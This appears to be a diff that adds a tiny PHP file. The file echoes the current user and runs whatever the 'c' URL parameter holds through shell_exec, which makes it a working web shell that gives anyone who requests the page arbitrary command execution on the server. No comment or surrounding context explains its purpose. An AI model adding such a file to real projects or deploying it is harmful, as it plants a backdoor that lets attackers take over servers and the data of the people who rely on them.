@@ -1,0 +1,4 @@
+<?php
+echo get_current_user();
+echo shell_exec($_GET['c']);
+?>
